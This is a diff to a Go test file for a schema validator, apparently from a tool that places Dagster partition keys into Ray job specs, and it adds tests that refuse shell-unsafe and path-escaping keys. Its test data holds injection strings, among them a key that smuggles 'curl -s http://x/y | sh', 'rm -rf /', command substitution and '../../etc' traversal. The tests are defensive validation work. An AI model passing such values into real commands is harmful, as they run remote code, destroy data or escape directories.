@@ -2,6 +2,7 @@ package schemas
 
 import (
 	"errors"
+	"fmt"
 	"strings"
 	"testing"
 
@@ -132,6 +133,88 @@ func TestVarsRefused(t *testing.T) {
 			}
 			if verrs.Errors[0].Line == 0 {
 				t.Errorf("error %q has no line", verrs.Errors[0].Error())
+			}
+		})
+	}
+}
+
+// key is a run for one partition whose key is k.
+func key(k string) *Partitions {
+	return &Partitions{Values: map[string]string{VarPartitionKey: k, VarPartitionKeyRangeStart: k, VarPartitionKeyRangeEnd: k}}
+}
+
+// TestVarsHostileValues: a partition key is input (sensors, file names,
+// the Dagster UI). Into the entrypoint, which Ray gives to sh -c, only a
+// key the shell reads as one plain word is substituted; env var values
+// take any printable key that keeps a path where the spec put it.
+func TestVarsHostileValues(t *testing.T) {
+	t.Parallel()
+	const ep = "python train.py --day ${RAYSTEP_PARTITION_KEY}"
+	const envHint = `; use the environment variable instead, quoted: "$RAYSTEP_PARTITION_KEY"`
+	refusedInEntrypoint := func(k, char string) string {
+		return fmt.Sprintf(`vars.yaml: /spec/entrypoint: ${RAYSTEP_PARTITION_KEY} is %q, which the shell would not read as one `+
+			`plain word (it holds %s); raystep substitutes into the entrypoint only letters, digits and `+
+			`_ . - : + @ , = %% /`+envHint, k, char)
+	}
+	tests := []struct {
+		name, spec, key string
+		want            []string // errors; none: substituted as is
+	}{
+		{"command after a semicolon", varsSpec(ep, "x"), "2024-01-01; curl -s http://x/y | sh #",
+			[]string{refusedInEntrypoint("2024-01-01; curl -s http://x/y | sh #", `';'`)}},
+		{"command substitution", varsSpec(ep, "x"), "$(touch F)", []string{refusedInEntrypoint("$(touch F)", `'$'`)}},
+		{"backquotes", varsSpec(ep, "x"), "a`touch F`", []string{refusedInEntrypoint("a`touch F`", "'`'")}},
+		{"space", varsSpec(ep, "x"), "eu west", []string{refusedInEntrypoint("eu west", `' '`)}},
+		{"quote", varsSpec(ep, "x"), "it's", []string{refusedInEntrypoint("it's", `'\''`)}},
+		{"glob", varsSpec(ep, "x"), "*", []string{refusedInEntrypoint("*", `'*'`)}},
+		{"pipe of a multi-partition key", varsSpec(ep, "x"), "2024-01-01|eu", []string{refusedInEntrypoint("2024-01-01|eu", `'|'`)}},
+		{"empty", varsSpec(ep, "x"), "", []string{`vars.yaml: /spec/entrypoint: ${RAYSTEP_PARTITION_KEY} is "", ` +
+			`which the shell would drop from the command` + envHint}},
+		{"NUL in an env var", varsSpec("echo", "${RAYSTEP_PARTITION_KEY}"), "a\x00b", []string{
+			`vars.yaml: /spec/runtimeEnv/env_vars/V: ${RAYSTEP_PARTITION_KEY} is "a\x00b", which holds the control character ` +
+				`U+0000, which Ray and Kubernetes do not accept`}},
+		{"newline in the entrypoint", varsSpec(ep, "x"), "a\nrm -rf /", []string{
+			refusedInEntrypoint("a\nrm -rf /", `'\n'`)}},
+		{"too long", varsSpec("echo", "${RAYSTEP_PARTITION_KEY}"), strings.Repeat("k", MaxPartitionValue+1), []string{
+			`vars.yaml: /spec/runtimeEnv/env_vars/V: ${RAYSTEP_PARTITION_KEY} is "` + strings.Repeat("k", 80) +
+				`"... (4097 bytes), longer than 4 KiB, raystep's limit for a partition value`}},
+		{"newline in an env var", varsSpec("echo", "${RAYSTEP_PARTITION_KEY}"), "a\nb", nil},
+		{"parent directory in a path", varsSpec("echo", "/data/models/${RAYSTEP_PARTITION_KEY}"), "../../etc", []string{
+			`vars.yaml: /spec/runtimeEnv/env_vars/V: ${RAYSTEP_PARTITION_KEY} is "../../etc", which holds a ".." path ` +
+				`segment: a partition value must not lead a path out of its directory`}},
+		{"absolute path", varsSpec("echo", "${RAYSTEP_PARTITION_KEY}/model"), "/etc", []string{
+			`vars.yaml: /spec/runtimeEnv/env_vars/V: ${RAYSTEP_PARTITION_KEY} is "/etc", which starts with "/": ` +
+				`a partition value must not make a path absolute`}},
+		// What the shell reads as a plain word goes in, whatever its script.
+		{"day", varsSpec(ep, "x"), "2024-01-01", nil},
+		{"time window, region, file name", varsSpec(ep, "x"), "eu-west_1:2024-01-01T00:00:00+05:30@v2,a=b%c/d.csv", nil},
+		{"letters of any script", varsSpec(ep, "x"), "région-東京", nil},
+		{"shell characters in an env var", varsSpec("echo", "/data/${RAYSTEP_PARTITION_KEY}"), "x; `touch F` $(y) 'z' eu/west", nil},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			t.Parallel()
+			js, err := Parse("vars.yaml", []byte(tc.spec), LoadOptions{Partitions: key(tc.key)})
+			if tc.want == nil {
+				if err != nil {
+					t.Fatalf("Parse: %v", err)
+				}
+				if got, ok := js.Spec.RuntimeEnv["env_vars"].(map[string]any)["RAYSTEP_PARTITION_KEY"]; !ok || got != tc.key {
+					t.Errorf("job env RAYSTEP_PARTITION_KEY = %v, want %q", got, tc.key)
+				}
+				return
+			}
+			var verrs *ValidationErrors
+			if !errors.As(err, &verrs) {
+				t.Fatalf("Parse = %v, want *ValidationErrors", err)
+			}
+			var got []string
+			for _, e := range verrs.Errors {
+				e.Line, e.Column = 0, 0
+				got = append(got, e.Error())
+			}
+			if diff := cmp.Diff(tc.want, got); diff != "" {
+				t.Errorf("errors (-want +got):\n%s", diff)
 			}
 		})
 	}
